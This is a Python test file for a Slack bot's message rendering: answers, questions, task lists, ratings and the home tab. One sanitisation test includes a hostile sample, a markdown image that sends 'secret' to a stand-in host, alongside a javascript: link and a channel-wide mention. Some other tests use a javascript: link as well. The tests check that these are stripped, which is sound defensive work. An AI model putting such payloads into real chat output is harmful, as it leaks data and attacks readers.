"""Answers, questions, notices, lists."""

from dataclasses import replace
from datetime import timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent_engine.commands import TaskLine
from agent_engine.places import RATED_WEEKS, RatedWeek
from agent_engine.types import (
    AgentObservation,
    Answer,
    EndReason,
    ProposedCall,
    Resolution,
    StepStatus,
    Usage,
    UserId,
    Wait,
    WaitKind,
)
from bot.outbound.blocks import ids
from bot.outbound.blocks.answer import RESENT, answer_messages, resent, sources_of
from bot.outbound.blocks.help import help_content, introduction_content
from bot.outbound.blocks.home import AgentLine, Figures, HomeFacts, home_view
from bot.outbound.blocks.notice import end_content, sentence_content
from bot.outbound.blocks.plan import plan_content
from bot.outbound.blocks.question import closed_content, question_content
from bot.outbound.blocks.ratings import GAP, ratings_line
from bot.outbound.blocks.tasks_list import tasks_content, thread_url
from tests.fakes.blocks import all_texts, check_content, check_view
from tests.fakes.runs import (
    AT,
    PROFILE,
    THREAD,
    UNHURRIED,
    WORDS,
    a_plan,
    a_run,
    a_step,
    answered,
    ended,
    runs,
    waits,
)

URL = "https://treadle-demo.slack.com/"


@given(runs(), WORDS, st.integers(1, 400))
@settings(UNHURRIED, max_examples=60)
def test_slack_takes_every_answer(run, text, times):
    answer = Answer(text=text * times, files=("a.csv",), label="offline model")
    for content in answer_messages(run, answer).contents:
        check_content(content)
        check_content(resent(content))


@given(runs(), waits())
@settings(UNHURRIED, max_examples=80)
def test_slack_takes_every_question(run, wait):
    check_content(question_content(run, wait))
    check_content(question_content(run, replace(wait, resolution=Resolution(value="yes", at=AT))))
    check_content(closed_content(run, run.steps[0] if run.steps else None))
    if run.end is not None:
        check_content(end_content(run))


def test_an_answer_closes_with_thumbs_and_what_it_took():
    usage = Usage(iterations=3, seconds=12.0, prompt_tokens=4_210, usd=0.02)
    run = answered(a_run(usage=usage), label="offline model")
    [content] = answer_messages(run, run.answer).contents
    assert content.blocks[0] == {"type": "markdown", "text": "It was the **cache**."}
    assert content.blocks[-1]["type"] == "context_actions"
    assert "12 s · 3 steps · 4,210 tokens · $0.02 · offline model" in all_texts(content)


def test_both_thumbs_say_the_run_and_the_rating():
    run = answered(a_run())
    [content] = answer_messages(run, run.answer).contents
    thumbs = content.blocks[-1]["elements"][0]
    read = [
        ids.read_action(thumbs["action_id"], thumbs[side]["value"])
        for side in ("positive_button", "negative_button")
    ]
    assert read == [ids.RateAnswer(run_id="r1", rating=r) for r in (5, 1)]


def test_a_long_answer_is_several_messages_and_only_the_last_has_thumbs():
    run = answered(a_run(), "A paragraph of words.\n\n" * 1_000)
    messages = answer_messages(run, run.answer)
    assert len(messages.contents) == 3
    assert messages.whole is None
    closings = [content.blocks[-1]["type"] for content in messages.contents]
    assert closings == ["markdown", "markdown", "context_actions"]


def test_a_very_long_answer_is_a_file_with_its_beginning_as_message():
    run = answered(a_run(), "A paragraph of words.\n\n" * 5_000)
    messages = answer_messages(run, run.answer)
    assert len(messages.contents) == 1
    assert messages.whole == run.answer.text.strip()
    assert "the whole answer is in answer.md" in all_texts(messages.contents[0])


def test_an_answer_cannot_mention_everybody():
    run = answered(a_run(), "<!channel> [x](javascript:alert(1)) ![](https://e.vil/?q=secret)")
    said = all_texts(answer_messages(run, run.answer).contents[0])
    assert "<!channel>" not in said
    assert "javascript:" not in said
    assert "![" not in said


def test_an_answer_sent_again_says_so():
    run = answered(a_run())
    [content] = answer_messages(run, run.answer).contents
    assert RESENT not in all_texts(content)
    assert all_texts(resent(content)).count(RESENT) == 2


def test_sources_are_what_successful_steps_looked_at():
    results = [{"title": "A <b>", "link": "https://a.b"}, {"title": "bad", "link": "javascript:x"}]
    found = AgentObservation(
        observation_type="tool_result", content={"success": True, "results": results}
    )
    step = replace(a_step(1, status=StepStatus.DONE), observation=found)
    run = answered(a_run(plan=a_plan(step)))
    assert sources_of(run) == (("https://a.b", "A <b>"),)
    said = all_texts(answer_messages(run, run.answer).contents[0])
    assert "Looked at: <https://a.b|A &lt;b&gt;>" in said


def test_a_question_with_choices_has_a_button_for_each():
    wait = Wait(id="w1", kind=WaitKind.QUESTION, step=1, question="Which?", choices=("red", "blue"))
    content = question_content(a_run(), wait)
    buttons = content.blocks[1]["elements"]
    read = [ids.read_action(*_ids(button)) for button in buttons]
    assert [button["text"]["text"] for button in buttons] == ["red", "blue", "Other…"]
    assert [(d.value, d.wait_id) for d in read[:2]] == [("red", "w1"), ("blue", "w1")]
    assert read[2] == ids.ReplyOther(run_id=a_run().run_id, wait_id="w1")
    assert len({b["action_id"] for b in buttons}) == 3


def test_a_long_choice_is_written_out_and_its_button_has_a_number():
    long = "the second one, " * 20
    wait = Wait(id="w", kind=WaitKind.QUESTION, step=1, question="Which?", choices=("red", long))
    content = question_content(a_run(), wait)
    assert [b["text"]["text"] for b in content.blocks[1]["elements"]] == ["1", "2", "Other…"]
    assert ids.read_action(*_ids(content.blocks[1]["elements"][1])).value == long


def test_an_open_question_asks_for_a_reply_in_the_thread():
    wait = Wait(id="w", kind=WaitKind.QUESTION, step=1, question="Why?", asked_of=UserId("U9"))
    content = question_content(a_run(), wait)
    assert content.text == "<@U9> Why?"
    assert "Reply in this thread." in all_texts(content)


def test_an_answered_question_loses_its_buttons_and_says_by_whom():
    wait = Wait(id="w", kind=WaitKind.QUESTION, step=1, question="Which?", choices=("red",))
    done = replace(wait, resolution=Resolution(value="red", by=UserId("U2"), at=AT))
    content = question_content(a_run(), done)
    assert "Answered by <@U2>: red" in all_texts(content)
    assert "actions" not in {block["type"] for block in content.blocks}


def test_a_step_that_may_have_happened_offers_repeat_and_skip():
    run = a_run(plan=a_plan(a_step(1, "Send the mail", StepStatus.WAITING)))
    content = question_content(run, Wait(id="w", kind=WaitKind.REPEAT, step=1))
    assert "This may already have happened:* Send the mail" in all_texts(content)
    read = [ids.read_action(*_ids(b)).value for b in content.blocks[1]["elements"]]
    assert read == ["repeat", "skip"]


def test_what_may_be_done_twice_is_shown_whole_with_who_decides():
    call = ProposedCall(
        tool="send", arguments={"to": "x" * 2_000}, digest="d", approvers=(UserId("U7"),)
    )
    wait = Wait(id="w", kind=WaitKind.REPEAT, step=1, call=call)
    run = a_run(plan=a_plan(a_step(1, "Send the mail", StepStatus.WAITING)))
    content = question_content(run, wait)
    check_content(content)
    said = all_texts(content)
    assert content.text.startswith("<@U7> *This may already have happened")
    assert "Only <@U7> or an admin can decide" in said
    assert "x" * 1_200 in said
    assert "Show all" in said
    done = replace(wait, resolution=Resolution(value="repeat", by=UserId("U7"), at=AT))
    assert "Answered by <@U7>: repeat it" in all_texts(question_content(run, done))


def test_a_run_that_ended_badly_says_one_sentence_and_can_run_again():
    content = end_content(ended(a_run(), EndReason.FAILED, "The model does not answer."))
    assert content.text == "The model does not answer."
    assert "Run again" in all_texts(content)


def test_who_stopped_a_task_is_named():
    run = ended(a_run(), EndReason.STOPPED, "stopped by a person", by="U2")
    assert end_content(run).text == "Stopped by <@U2>."


def test_an_answer_that_is_only_part_of_the_work_says_why_and_how_to_go_on():
    plan = a_plan(a_step(1, status=StepStatus.DONE), a_step(2))
    run = replace(answered(a_run(plan=plan)), end=ended(a_run(), EndReason.LIMIT, "Used up").end)
    [content] = answer_messages(run, run.answer).contents
    check_content(content)
    said = all_texts(content)
    assert content.text.startswith("Used up.\n")
    assert content.blocks[0]["text"]["text"] == "*Used up.*"
    assert "Run again" in said
    assert "Continue" in said


def test_files_are_not_named_beside_their_upload():
    run = answered(a_run(), files=("report.csv",))
    assert "report.csv" not in all_texts(answer_messages(run, run.answer).contents[0])


def test_an_answer_says_where_its_files_are_if_slack_does_not_take_them():
    run = answered(a_run(), files=tuple(f"report{n}.csv" for n in range(7)))
    [content] = answer_messages(run, run.answer, takes_files=False).contents
    check_content(content)
    said = all_texts(content)
    assert "report0.csv" in said
    assert "and 2 more" in said
    assert "files:write" in said


def test_a_very_long_answer_stays_in_messages_if_slack_takes_no_files():
    run = answered(a_run(), "A paragraph of words.\n\n" * 5_000)
    messages = answer_messages(run, run.answer, takes_files=False)
    assert messages.whole is None
    assert sum(str(c.blocks).count("A paragraph") for c in messages.contents) == 5_000


def test_an_end_whose_sentence_cannot_be_seen_is_said_in_our_words():
    assert end_content(ended(a_run(), EndReason.FAILED, "\x1b\n ")).text == "This did not work out."


@pytest.mark.parametrize("said", ["stopped by a person", "Stopped by a person."])
def test_an_end_is_said_in_a_whole_sentence(said):
    assert end_content(ended(a_run(), EndReason.STOPPED, said)).text == "Stopped by a person."


def test_a_sentence_is_shown_literally():
    assert sentence_content("a <!here> b").text == "a &lt;!here&gt; b"


def a_line(n, **more):
    facts = {
        "task_id": f"t{n}",
        "run_id": f"r{n}",
        "description": "Do <!here> | it",
        "status": "running",
        "thread": THREAD,
        "agent_id": PROFILE.id,
        "requester": UserId("U1"),
        "created_at": AT,
        "ended_at": None,
        "queue_place": None,
    }
    return TaskLine(**{**facts, **more})


def test_the_task_list_links_every_thread_and_stops_what_runs():
    lines = [a_line(1), a_line(2, status="completed", ended_at=AT), a_line(3, queue_place=4)]
    content = tasks_content(lines, workspace_url=URL, now=AT)
    check_content(content)
    assert content.text == "2 tasks under way, 1 ended."
    assert "archives/C1/p1732300000000100|Do &lt;!here&gt; ¦ it>" in all_texts(content)
    assert ["accessory" in block for block in content.blocks] == [True, False, True]
    assert "In line, place 4" in all_texts(content)


@pytest.mark.parametrize("reason", EndReason)
def test_an_end_is_called_the_same_in_the_list_and_in_the_plan(reason):
    status = ended(a_run(), reason).status.value
    line = a_line(1, status=status, end_reason=reason, ended_at=AT + timedelta(seconds=0.4))
    listed = all_texts(tasks_content([line], workspace_url=URL, now=AT))
    word = plan_content(ended(a_run(), reason)).text.split(" · ")[0]
    assert f"{word} · 0.4 s · for <@U1> in <#C1>" in listed


def test_a_task_in_direct_messages_is_listed_without_a_channel_that_nobody_can_open():
    line = a_line(1, thread=replace(THREAD, channel_id="D1"))
    assert "in direct messages" in all_texts(tasks_content([line], workspace_url=URL, now=AT))


def test_code_in_a_problem_does_not_break_the_link_to_its_task():
    line = a_line(1, description="run this\n```bash\nsleep 60\n```")
    content = tasks_content([line], workspace_url=URL, now=AT)
    check_content(content)
    assert "p1732300000000100|run this …>" in all_texts(content)


def test_no_tasks_is_said():
    content = tasks_content([], workspace_url=URL, now=AT)
    check_content(content)
    assert "No tasks here yet" in content.text


def test_the_address_of_a_thread_needs_no_call():
    address = "https://treadle-demo.slack.com/archives/C1/p1732300000000100"
    assert thread_url(THREAD, workspace_url=URL) == address


@pytest.mark.parametrize("number", [0, 1, 50])
def test_slack_takes_the_home_tab(number):
    facts = HomeFacts(
        workspace_url=URL,
        now=AT,
        tasks=tuple(a_line(n) for n in range(number)),
        agents=tuple(
            AgentLine(profile=PROFILE, channels=("C1", f"C{n + 2}"), may_edit=True)
            for n in range(number)
        ),
        figures=(Figures(period="last 7 days", tasks=3, good_ratings=3, low_ratings=1),),
        remarks=("No embeddings: memory is searched by words.",),
    )
    view = home_view(facts)
    check_view(view)
    assert "3 👍, 1 👎" in str(view)


def a_week(ago, mean, *, ratings=2, good=2, low=0):
    return RatedWeek(
        agent_id=PROFILE.id, weeks_ago=ago, ratings=ratings, good=good, low=low, mean=mean
    )


def test_slack_takes_a_home_tab_of_two_hundred_rated_agents():
    weeks = tuple(a_week(ago, 5.0 - ago / 2) for ago in range(RATED_WEEKS))
    line = AgentLine(profile=PROFILE, channels=tuple(f"C{n}" for n in range(200)), weeks=weeks)
    tasks = tuple(a_line(n) for n in range(50))
    view = home_view(HomeFacts(workspace_url=URL, now=AT, agents=(line,) * 200, tasks=tasks))
    check_view(view)
    shown = view["blocks"][-3]["text"]["text"]
    assert GAP.join("▂▃▄▅▅▆▇█") in shown
    assert "and 180 more agents" in str(view)


@pytest.mark.parametrize(
    ("weeks", "line"),
    [
        ([], ""),
        ([a_week(0, 1.0, good=0, low=2)], "·······▁  *1.0* of 5 this week"),
        ([a_week(0, 5.0), a_week(3, 3.0, good=0)], "····▅··█  *5.0* of 5 this week, 3.0 before"),
        ([a_week(1, 4.0, ratings=1, good=1), a_week(2, 1.0, ratings=3, good=0, low=3)], "1.8* of"),
        (
            [a_week(7, 4.5)],
            "▇·······  *4.5* of 5, none this week · 2 ratings in 8 weeks: 2 👍, 0 👎",
        ),
    ],
)
def test_weeks_of_ratings_are_bars_and_figures(weeks, line):
    assert line in ratings_line(weeks).replace(GAP, "")
    assert bool(ratings_line(weeks)) == bool(line)


def test_channels_that_the_home_tab_leaves_out_are_counted():
    line = AgentLine(profile=PROFILE, channels=tuple(f"C{n}" for n in range(13)))
    view = home_view(HomeFacts(workspace_url=URL, now=AT, agents=(line,)))
    assert "and 3 more channels" in str(view)


def test_slack_takes_help_and_introduction():
    content = help_content({"/solve": "Give me a problem", "/tasks": "List tasks"})
    check_content(content)
    check_content(help_content({}))
    check_content(introduction_content("<!here>", offline=True))
    assert "&lt;!here&gt;" in all_texts(introduction_content("<!here>", offline=False))


def _ids(element):
    return element["action_id"], element["value"]
